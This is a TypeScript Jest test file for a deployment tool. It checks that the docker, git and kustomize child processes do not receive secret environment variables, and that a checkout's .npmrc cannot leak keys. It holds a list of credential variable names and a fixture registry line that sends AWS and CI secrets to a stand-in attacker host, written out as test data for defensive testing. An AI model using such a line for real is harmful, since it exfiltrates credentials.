import { chmodSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import { Git } from '../../src/git/process.ts'
import { Docker } from '../../src/image/docker.ts'
import { readNpmRegistry } from '../../src/image/release.ts'
import { findRenderer, type Renderer, render } from '../../src/manifests/kustomize/tool.ts'
import { after, printedBy, temporaryFolder } from './support.ts'

// What no child needs: the action's own.
const NEVER = [
  'INPUT_KUBECONFIG',
  'INPUT_SOPS-AGE-KEY',
  'AWS_ACCESS_KEY_ID',
  'AWS_SECRET_ACCESS_KEY',
  'AWS_SESSION_TOKEN',
  'AWS_WEB_IDENTITY_TOKEN_FILE',
  'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  'ACTIONS_RUNTIME_TOKEN',
  'KUBECONFIG',
  'SOPS_AGE_KEY',
  'NPM_TOKEN',
  'NODE_AUTH_TOKEN',
  'npm_config_//npm.example.com/:_authToken',
]
/** What a workflow may set for a step before or after, by any name. */
const UNFORESEEN = ['GH_TOKEN', 'GITHUB_TOKEN', 'OPENCLAW_GATEWAY_TOKEN', 'DOCKER_PASSWORD', 'DOCKERHUB_TOKEN']
const ALWAYS = ['HOME', 'HTTPS_PROXY', 'no_proxy', 'SSL_CERT_FILE']
const OWN = {
  docker: ['DOCKER_HOST', 'DOCKER_CERT_PATH', 'DOCKER_CONFIG', 'BUILDX_BUILDER', 'SOURCE_DATE_EPOCH', 'SSH_AUTH_SOCK'],
  git: ['GIT_SSH_COMMAND', 'SSH_AUTH_SOCK', ...UNFORESEEN],
  kustomize: ['XDG_CONFIG_HOME', ...UNFORESEEN],
}

/** A program on PATH that notes the names of its environment, no values; `env` has them all. */
function spy(name: string) {
  const bin = temporaryFolder()
  const notes = join(bin, 'names')
  writeFileSync(
    join(bin, name),
    `#!/bin/sh\n/usr/bin/env -0 | /usr/bin/tr '\\n' ' ' | /usr/bin/tr '\\0' '\\n' >> '${notes}'\n`,
  )
  chmodSync(join(bin, name), 0o755)
  const path = process.env.PATH
  process.env.PATH = `${bin}:${path}`
  after(() => {
    process.env.PATH = path
  })
  const all = [...NEVER, ...UNFORESEEN, ...ALWAYS, ...Object.values(OWN).flat()]
  const env = { ...Object.fromEntries(all.map((each) => [each, 'x'])), PATH: process.env.PATH }
  const names = () => {
    const lines = readFileSync(notes, 'utf8').trimEnd().split('\n')
    return [...new Set(lines.map((line) => line.replace(/=.*/, '')))]
  }
  return { env, names }
}

const CHILDREN: [program: keyof typeof OWN, run: (env: Record<string, string | undefined>) => Promise<unknown>][] = [
  [
    'docker',
    async (env) => {
      const docker = new Docker(temporaryFolder(), 'unix:///x', env)
      await docker.waitForDaemon(1, () => {}).catch(() => {})
      await docker.push('registry.example/openclaw:1')
      await docker.login({ registry: 'registry.example', username: 'AWS', password: 'pass-word' })
    },
  ],
  ['git', (env) => new Git(temporaryFolder(), env).run(['status'])],
  ['kustomize', async (env) => render((await findRenderer(env)) as Renderer, '.')],
]

describe.each(CHILDREN)('%s', (program, run) => {
  test('gets what it needs and none of the secrets that it does not', async () => {
    const { env, names } = spy(program)
    await printedBy(() => run(env))
    expect(names()).toEqual(expect.arrayContaining([...ALWAYS, ...OWN[program]]))
    const needless = [...NEVER, ...UNFORESEEN.filter((name) => !OWN[program].includes(name))]
    expect(names().filter((name) => needless.includes(name))).toEqual([])
  })
})

test('an npmrc of the checkout cannot have a key sent to the registry that it names', async () => {
  const workspace = temporaryFolder()
  const line =
    'registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/${INPUT_KUBECONFIG}/${ACTIONS_RUNTIME_TOKEN}/${TEAM}'
  writeFileSync(join(workspace, '.npmrc'), `${line}\n`)
  const secret = 'top-secret'
  const env = { AWS_SECRET_ACCESS_KEY: secret, INPUT_KUBECONFIG: secret, ACTIONS_RUNTIME_TOKEN: secret, TEAM: 'ours' }
  const { url } = await readNpmRegistry(workspace, { ...env, HOME: workspace })
  expect(url).not.toContain(secret)
  expect(url).toMatch(/\/ours\/$/)
})
